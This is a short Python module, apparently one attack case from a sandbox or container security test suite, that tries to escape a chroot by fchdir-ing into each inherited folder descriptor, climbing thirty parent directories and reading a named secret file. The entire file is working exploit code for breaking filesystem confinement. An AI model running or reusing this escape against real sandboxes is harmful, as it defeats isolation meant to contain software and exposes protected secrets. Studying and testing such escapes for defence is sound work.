"""Change into an inherited folder and climb."""

from __future__ import annotations

import os

ORIGIN = "chroot escape by a kept folder descriptor."
SEEN = "secret"


def attack(target):
    for descriptor in range(3, 1024):
        try:
            os.fchdir(descriptor)
            os.chdir("../" * 30)
            with open(target["secret_file"].lstrip("/")) as stream:
                return stream.read()
        except OSError:
            continue
